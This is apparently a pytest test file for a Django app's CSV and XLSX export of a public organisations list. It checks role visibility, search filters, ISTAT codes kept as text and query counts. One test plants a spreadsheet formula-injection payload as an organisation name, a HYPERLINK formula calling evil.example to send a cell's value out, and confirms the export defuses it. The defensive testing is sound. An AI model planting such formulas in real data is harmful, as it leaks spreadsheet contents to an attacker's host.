"""The organisations list as CSV and XLSX: the rows of the page (its search, for whoever may
see the page, anonymous visitors included: the network is public), the ISTAT code as text,
names never computed, no person's data, queries that do not grow with the rows."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from legami.core import roles
from legami.network import services

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Apri")'
URL = "network:organisation_list"


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8").removeprefix("\ufeff"))))


@pytest.mark.parametrize("role", [None, roles.CITIZEN, roles.PROVIDER, roles.TERRITORY_ADMIN])
def test_each_role_gets_the_rows_the_page_lists(client_for, world, role):
    client = client_for(role)
    rows = _csv(client.get(reverse(URL), {"export": "csv"}))
    names = [row[0] for row in rows[1:]]
    assert names == [
        "Associazione Amiata Cammina",
        "Comune di Arcidosso",
        "Comune di Casalecchio di Reno",
    ]
    page = client.get(reverse(URL)).content.decode()
    assert all(name in page for name in names)
    # People are the administrators' alone: a member's name is in no one's file.
    text = "\n".join(",".join(row) for row in rows)
    assert "Persona" not in text and "Vider" not in text


def test_the_search_of_the_page_applies(client, world):
    rows = _csv(client.get(reverse(URL), {"export": "csv", "sector": "public_administration"}))
    assert [row[0] for row in rows[1:]] == ["Comune di Arcidosso", "Comune di Casalecchio di Reno"]
    rows = _csv(client.get(reverse(URL), {"export": "csv", "q": "amiata"}))
    assert [row[0] for row in rows[1:]] == ["Associazione Amiata Cammina"]
    assert rows[1][2:4] == ["Arcidosso", "053001"]


def test_xlsx_keeps_the_istat_code_as_text_and_a_formula_name_inert(client, world, personas):
    services.organisation_create(
        by=personas[roles.SUPERUSER],
        name=HYPERLINK,
        sector="third_sector",
        comune=world["arcidosso"],
    )
    csv_rows = _csv(client.get(reverse(URL), {"export": "csv", "q": "HYPERLINK"}))
    assert csv_rows[1][0] == "'" + HYPERLINK
    response = client.get(reverse(URL), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    by_name = {row[0].value: row for row in rows}
    assert by_name[HYPERLINK][0].data_type == "s"
    istat = by_name["Comune di Arcidosso"][3]
    assert istat.value == "053001" and istat.data_type == "s"


def test_the_page_links_the_downloads_with_its_search(client, world):
    body = client.get(reverse(URL), {"q": "amiata"}).content.decode()
    assert "q=amiata&amp;export=csv" in body and "q=amiata&amp;export=xlsx" in body


def test_queries_do_not_grow_with_the_rows(client, world, personas, django_assert_max_num_queries):
    # The hourly count of downloads lives in the shared cache (the database cache here).
    with django_assert_max_num_queries(6 + 16) as few:
        _csv(client.get(reverse(URL), {"export": "csv"}))
    for n in range(20):
        services.organisation_create(
            by=personas[roles.SUPERUSER],
            name=f"Associazione {n}",
            sector="third_sector",
            comune=world["massa" if n % 2 else "zola"],
        )
    with django_assert_max_num_queries(len(few.captured_queries)):
        rows = _csv(client.get(reverse(URL), {"export": "csv"}))
    assert len(rows) == 24
